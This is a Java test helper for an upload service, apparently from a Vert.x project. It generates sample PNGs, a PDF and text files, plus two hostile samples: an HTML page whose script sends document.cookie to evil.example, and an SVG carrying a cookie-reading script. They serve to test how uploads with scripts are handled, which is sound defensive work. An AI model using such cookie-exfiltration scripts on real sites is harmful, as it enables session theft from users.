package dev.ocomms.system.uploads;

import io.vertx.core.buffer.Buffer;

import javax.imageio.ImageIO;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Random;

/** Real files of each kind a test uploads, made on the spot so that each test states what its bytes are. */
final class SampleFiles {
  static final Color LEFT = Color.RED;
  static final Color RIGHT = Color.BLUE;
  static final Color MARGIN = Color.GREEN;

  private SampleFiles() {
  }

  /** A PNG of {@code width}×{@code height} pixels: left half {@link #LEFT}, right half {@link #RIGHT}. */
  static Buffer png(int width, int height) {
    return png(width, height, 0);
  }

  /**
   * A PNG of {@code width}×{@code height}: a {@link #MARGIN} band {@code margin} pixels wide on the left and on the
   * right, and between them {@link #LEFT} then {@link #RIGHT} halves. Cropping its centre square (when the margins
   * make up the extra width) keeps no margin; squeezing it would.
   */
  static Buffer png(int width, int height, int margin) {
    BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
    Graphics2D graphics = image.createGraphics();
    graphics.setColor(MARGIN);
    graphics.fillRect(0, 0, width, height);
    int inner = width - 2 * margin;
    graphics.setColor(LEFT);
    graphics.fillRect(margin, 0, inner / 2, height);
    graphics.setColor(RIGHT);
    graphics.fillRect(margin + inner / 2, 0, inner - inner / 2, height);
    graphics.dispose();
    return encode(image, "png");
  }

  /** A PNG of random pixels (so it does not compress: a few hundred KB for a few hundred pixels a side). */
  static Buffer noisyPng(int width, int height, long seed) {
    Random random = new Random(seed);
    BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
    for (int y = 0; y < height; y++) {
      for (int x = 0; x < width; x++) {
        image.setRGB(x, y, random.nextInt(0x1000000));
      }
    }
    return encode(image, "png");
  }

  /** A web page with a script that would read the viewer's cookies. */
  static Buffer html() {
    return text("<!DOCTYPE html>\n<html><head><title>cat</title></head><body>"
        + "<script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>\n");
  }

  /** An SVG image with a script in it. */
  static Buffer svgWithScript() {
    return text("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\""
        + " height=\"10\"><script>alert(document.cookie)</script><rect width=\"10\" height=\"10\"/></svg>\n");
  }

  static Buffer pdf() {
    return text("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        + "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
  }

  /** Plain text of exactly {@code size} bytes (lines of letters). */
  static Buffer text(int size) {
    byte[] bytes = new byte[size];
    for (int i = 0; i < size; i++) {
      bytes[i] = (byte) (i % 64 == 63 ? '\n' : 'a' + i % 26);
    }
    return Buffer.buffer(bytes);
  }

  static Buffer text(String content) {
    return Buffer.buffer(content.getBytes(StandardCharsets.UTF_8));
  }

  /** The image a response carried; fails unless it is one. */
  static BufferedImage decode(Buffer bytes) {
    try {
      BufferedImage image = ImageIO.read(new ByteArrayInputStream(bytes.getBytes()));
      if (image == null) {
        throw new AssertionError("not an image ImageIO reads (" + bytes.length() + " bytes)");
      }
      return image;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** The colour of one pixel, without alpha. */
  static Color colorAt(BufferedImage image, int x, int y) {
    return new Color(image.getRGB(x, y) & 0xffffff);
  }

  /** Whether two colours are the same up to what lossy scaling changes. */
  static boolean near(Color actual, Color expected) {
    return Math.abs(actual.getRed() - expected.getRed()) < 40 && Math.abs(actual.getGreen() - expected.getGreen()) < 40
        && Math.abs(actual.getBlue() - expected.getBlue()) < 40;
  }

  private static Buffer encode(BufferedImage image, String format) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      if (!ImageIO.write(image, format, out)) {
        throw new IllegalStateException("no ImageIO writer for " + format);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return Buffer.buffer(out.toByteArray());
  }
}
